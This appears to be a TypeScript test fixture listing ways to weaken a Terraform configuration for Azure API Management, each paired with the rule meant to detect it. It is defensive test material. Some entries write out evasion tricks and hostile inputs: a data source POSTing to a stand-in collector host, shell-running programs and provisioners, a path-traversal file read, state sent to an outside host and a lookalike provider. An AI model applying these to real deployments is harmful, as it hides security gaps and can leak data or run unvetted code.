/** Holes that are not in an attribute: in what Terraform makes of the folder around it. */
import type { Json } from '../../../synthesized/model';
import type { Block, Hole } from './example';

const API = 'api_management_api';
const APPOINTMENTS = 'Api-appointments';
const json = (content: Json): string => JSON.stringify(content);
const POLICY = 'azurerm_api_management_policy';
const OPEN = '<policies><inbound /><backend><forward-request /></backend><outbound /><on-error /></policies>';

/** [what, the rule that must see it, how it is opened] */
export const FOLDER_HOLES: readonly Hole[] = [
  ['a file in HCL beside the JSON', 0, (example) => example.file('prod-apis', 'more.tf', 'resource "azurerm_api_management_api" "x" {}')],
  ['an override file that drops a base', 29, (example) => example.file('prod-apis', 'z_override.tf.json', json({ resource: { azurerm_api_management_product_policy: { [example.key('api_management_product_policy')]: { xml_content: '<policies><inbound /><backend><base /></backend><outbound><base /></outbound><on-error><base /></on-error></policies>' } } } }))],
  ['an override file that turns tracing on', 20, (example) => example.file('prod-apis', 'override.tf.json', json({ resource: { azurerm_api_management_subscription: { [example.key('api_management_subscription')]: { allow_tracing: true } } } }))],
  ['an override file that puts another policy in', 28, (example) => example.file('prod-apis', 'a_override.tf.json', json({ resource: { azurerm_api_management_api_policy: { [example.key('api_management_api_policy', APPOINTMENTS)]: { xml_content: '<policies><inbound><base /></inbound><backend><base /></backend><outbound><base /></outbound><on-error><base /></on-error></policies>' } } } }))],
  ['an override file that hides which changes are ignored', 0, (example) => {
    const policy = example.resource('api_management_api_policy', APPOINTMENTS);
    policy['lifecycle'] = { ignore_changes: ['xml_content'] };
    example.file('prod-apis', 'a_override.tf.json', json({ resource: { azurerm_api_management_api_policy: { [example.key('api_management_api_policy', APPOINTMENTS)]: { lifecycle: { create_before_destroy: true } } } } }));
  }],
  ['a file that only OpenTofu reads', 0, (example) => example.file('prod-apis', 'cdk.tofu.json', json({ resource: { [POLICY]: { x: { xml_content: OPEN } } } }))],
  ['an OpenTofu file in HCL', 0, (example) => example.file('prod-apis', 'more.tofu', 'resource "azurerm_api_management_api" "x" {}')],
  ['the log in a file that Terraform ignores', 48, (example) => {
    const setting = example.resource('monitor_diagnostic_setting', 'GatewayLogs');
    example.remove('monitor_diagnostic_setting', 'GatewayLogs');
    example.file('prod-platform', '.logs.tf.json', json({ resource: { azurerm_monitor_diagnostic_setting: { GatewayLogs: setting } } }));
  }],
  ['the log in a stack that nobody deploys', 0, (example) => {
    const setting = example.resource('monitor_diagnostic_setting', 'GatewayLogs');
    example.remove('monitor_diagnostic_setting', 'GatewayLogs');
    example.file('prod-logs', 'cdk.tf.json', json({ resource: { azurerm_monitor_diagnostic_setting: { GatewayLogs: setting } }, terraform: { backend: { azurerm: {} } } }));
  }],
  ['a manifest that deploys another folder', 0, (example) => {
    example.file('../hidden', 'cdk.tf.json', json({ resource: {} }));
    example.manifest((stacks) => void ((stacks['prod-apis'] as Block)['workingDirectory'] = 'hidden'));
  }],
  ['variables with other values in a file', 0, (example) => example.file('prod-apis', 'terraform.tfvars', 'x = true')],
  ['variables with other values in a JSON file', 0, (example) => example.file('prod-platform', 'zone.auto.tfvars.json', '{}')],
  ['a variable behind a local', 0, (example) => {
    example.top('apis', { variable: { tracing: { default: false } }, locals: { tracing: '${var.tracing}' } });
    example.resource('api_management_subscription')['allow_tracing'] = '${local.tracing}';
  }],
  ['a variable deep inside a local', 0, (example) => {
    example.top('apis', { variable: { tracing: { default: false } }, locals: { other: { nested: ['${var.tracing}'] } } });
    example.resource('api_management_subscription')['allow_tracing'] = '${local.other.nested[0]}';
  }],
  ['a variable inside a policy', 0, (example) => {
    example.top('apis', { variable: { scope: { default: 'appointments.write' } } });
    example.edit('appointments', 'case "book-appointment": return "scope:appointments.write"', 'case "book-appointment": return "scope:${var.scope}"');
  }],
  ['a variable that decides how long a locked log is kept', 0, (example) => {
    example.top('platform', { variable: { locked: { default: true } } });
    example.add('platform', 'azurerm_storage_container_immutability_policy', 'keep', { locked: '${var.locked}', immutability_period_in_days: 2556 });
  }],
  ['a key of JSON that is there twice', 0, (example) => example.replace('prod-apis', '"allow_tracing": false', '"allow_tracing": false, "allow_tracing": true')],
  ['a key that is there twice, once escaped', 0, (example) => example.replace('prod-apis', '"allow_tracing": false', '"allow_tracing": false, "allow\\u005ftracing": true')],
  ['a resource written twice, in an array', 0, (example) => {
    const [name, subscription] = [example.key('api_management_subscription'), example.resource('api_management_subscription')];
    (example.apis.resource as Record<string, Json>)['azurerm_api_management_subscription'] = [{ [name]: subscription }, { [name]: { ...subscription, allow_tracing: true } }];
  }],
  ['an ephemeral resource', 0, (example) => example.top('apis', { ephemeral: { azurerm_key_vault_secret: { x: {} } } })],
  ['a resource that Terraform is told to forget', 0, (example) => example.top('apis', { removed: [{ from: 'azurerm_api_management_api.old', lifecycle: { destroy: false } }] })],
  ['a check that runs a program', 0, (example) => example.top('apis', { check: { health: { data: { external: { run: { program: ['sh', '-c', 'true'] } } } } } })],
  ['a data source that runs a program', 0, (example) => example.top('apis', { data: { external: { run: { program: ['sh', '-c', 'true'] } } } })],
  ['a data source that sends what it likes', 0, (example) => example.top('apis', { data: { http: { out: { url: 'https://collector.example', method: 'POST', request_body: 'x' } } } })],
  ['another provider under the same name', 0, (example) => void ((example.apis.terraform['required_providers'] as Block)['azurerm'] = { source: 'someone/azurerm', version: '4.55.0' })],
  ['a resource that another provider makes', 0, (example) => void (example.resource(API, APPOINTMENTS)['provider'] = 'lookalike')],
  ['a resource in another subscription', 0, (example) => void (example.resource(API, APPOINTMENTS)['provider'] = 'azurerm.elsewhere')],
  ['a client secret in the provider', 41, (example) => {
    const provider = (example.apis as unknown as { provider: { azurerm: Block[] } }).provider.azurerm[0];
    if (provider !== undefined) provider['client_secret'] = 'hunter22hunter22';
  }],
  ['a secret as the default of a sensitive variable', 41, (example) => example.top('apis', { variable: { workforce_client_secret: { default: 'hunter22hunter22', sensitive: true } } })],
  ['a resource of azapi', 0, (example) => example.add('apis', 'azapi_resource', 'x', { type: 'Microsoft.ApiManagement/service/apis@2024-05-01', name: 'x' })],
  ['an update by azapi', 0, (example) => example.add('apis', 'azapi_update_resource', 'x', { type: 'Microsoft.ApiManagement/service@2024-05-01', resource_id: '${data.azurerm_api_management.x.id}' })],
  ['a REST call of another provider', 0, (example) => example.add('apis', 'restapi_object', 'x', { path: '/subscriptions/x/providers/Microsoft.ApiManagement/service/y/policies/policy' })],
  ['a deployment script', 0, (example) => example.add('apis', 'azurerm_resource_deployment_script_azure_cli', 'x', { script_content: 'az apim api update' })],
  ['a provisioner', 0, (example) => void (example.resource(API, APPOINTMENTS)['provisioner'] = { 'local-exec': { command: 'az apim api update' } })],
  ['terraform_data with a provisioner in an array', 0, (example) => example.add('apis', 'terraform_data', 'x', { provisioner: [{ 'local-exec': { command: 'true' } }] })],
  ['changes of everything are ignored', 0, (example) => void (example.resource('api_management_policy')['lifecycle'] = { ignore_changes: 'all' })],
  ['changes of a policy are ignored, in an array', 0, (example) => void (example.resource('api_management_policy')['lifecycle'] = [{ ignore_changes: ['xml_content'] }])],
  ['count as a text', 0, (example) => void (example.resource('api_management_policy')['count'] = '0')],
  ['count by an expression', 0, (example) => void (example.resource('api_management_policy')['count'] = '${1 - 1}')],
  ['for_each over nothing', 0, (example) => void (example.resource('monitor_diagnostic_setting', 'GatewayLogs')['for_each'] = {})],
  ['no global policy, by count', 40, (example) => void (example.resource('api_management_policy')['count'] = 0)],
  ['a dynamic block inside a block', 0, (example) => void (example.block('api_management', '', 'hostname_configuration')['dynamic'] = [{ proxy: { for_each: [1], content: { host_name: 'x.example' } } }])],
  ["another resource's path, so that its suppression holds here", 0, (example) => {
    const [one, other] = [example.resource(API, APPOINTMENTS), example.resource(API, 'Api-fhir')];
    one['//'] = structuredClone(other['//'] ?? null);
  }],
  ['the log of another service, by an expression', 48, (example) => {
    const setting = example.resource('monitor_diagnostic_setting', 'GatewayLogs');
    setting['target_resource_id'] = String(setting['target_resource_id']).replace('${', '${true ? "/subscriptions/x/other" : ');
  }],
  ['a log kept in a workspace that an expression chooses', 50, (example) => {
    const setting = example.resource('monitor_diagnostic_setting', 'GatewayLogs');
    setting['log_analytics_workspace_id'] = String(setting['log_analytics_workspace_id']).replace('${', '${true ? "/subscriptions/x/other" : ');
  }],
  ['a policy attached by an expression', 0, (example) => {
    const policy = example.resource('api_management_api_policy', APPOINTMENTS);
    policy['api_name'] = `\${false ? azurerm_api_management_api.${example.key(API, APPOINTMENTS)}.name : "other"}`;
  }],
  ['a policy decoded by a function', 28, (example) => void (example.resource('api_management_api_policy', APPOINTMENTS)['xml_content'] = `\${base64decode("${Buffer.from(OPEN).toString('base64')}")}`)],
  ['a policy with its token check replaced by a function', 28, (example) => {
    const policy = example.resource('api_management_api_policy', APPOINTMENTS);
    example.top('apis', { locals: { text: policy['xml_content'] as Json } });
    policy['xml_content'] = '${replace(local.text, "validate-azure-ad-token", "set-variable")}';
  }],
  ['a policy from a template file', 28, (example) => void (example.resource('api_management_api_policy', APPOINTMENTS)['xml_content'] = '${templatefile("policy.tftpl", {})}')],
  ['a policy with a Terraform directive', 28, (example) => example.edit('appointments', '<validate-azure-ad-token', '%{ if false }<validate-azure-ad-token')],
  ['a policy from a file outside the folder', 28, (example) => void (example.resource('api_management_api_policy', APPOINTMENTS)['xml_content'] = '${file("../../../../etc/hostname")}')],
  ['the state on any host', 55, (example) => void (example.apis.terraform['backend'] = { http: { address: 'https://x.example/state' } })],
  ['the state in a cloud of another host', 55, (example) => {
    delete example.apis.terraform['backend'];
    example.apis.terraform['cloud'] = { hostname: 'x.example', organization: 'x', workspaces: { name: 'x' } };
  }],
  ['a resource that OpenTofu is told not to make', 0, (example) => void (example.resource('api_management_api_policy', APPOINTMENTS)['lifecycle'] = { enabled: false })],
  ['a provider that asks somebody else where Azure is', 0, (example) => example.top('apis', { provider: { azurerm: [{ features: [{}], metadata_host: 'azure.other.example' }] } })],
  ['the policy of the service inside the service', 0, (example) => void (example.resource('api_management')['policy'] = [{ xml_content: OPEN }])],
  ['a path of the contract that stands elsewhere', 0, (example) => {
    const contract = JSON.parse(example.contracts['appointments.openapi.json'] ?? '') as { paths: Block };
    contract.paths['/everything'] = { $ref: 'https://other.example/paths.json' };
    example.contracts['appointments.openapi.json'] = JSON.stringify(contract);
  }],
  ['a second fragment of a name, in other case', 0, (example) => {
    const known = example.resource('api_management_policy_fragment', 'Fragment-refuse-forbidden-plain');
    example.add('apis', 'azurerm_api_management_policy_fragment', 'second', { ...known, '//': {}, name: 'Refuse-Forbidden-Plain', value: '<fragment />' });
  }],
  ['a second backend of a name, elsewhere', 0, (example) => {
    const known = example.resource('api_management_backend', 'Api-appointments');
    example.add('platform', 'azurerm_api_management_backend', 'second', { ...known, '//': {}, name: 'Appointments-Backend', url: 'https://other.example' });
  }],
  ['a second named value under the name that policies use', 0, (example) => {
    const known = example.resource('api_management_named_value');
    example.add('apis', 'azurerm_api_management_named_value', 'second', { ...known, '//': {}, name: 'other', value: 'other' });
  }],
  ['an operation by any method, of which a condition on the method lets some in', 0, (example) =>
    example.add('apis', 'azurerm_api_management_api_operation', 'any', { api_management_name: 'contoso-health-prod', api_name: 'appointments', operation_id: 'any', display_name: 'any', method: '*', url_template: '/any' })],
];
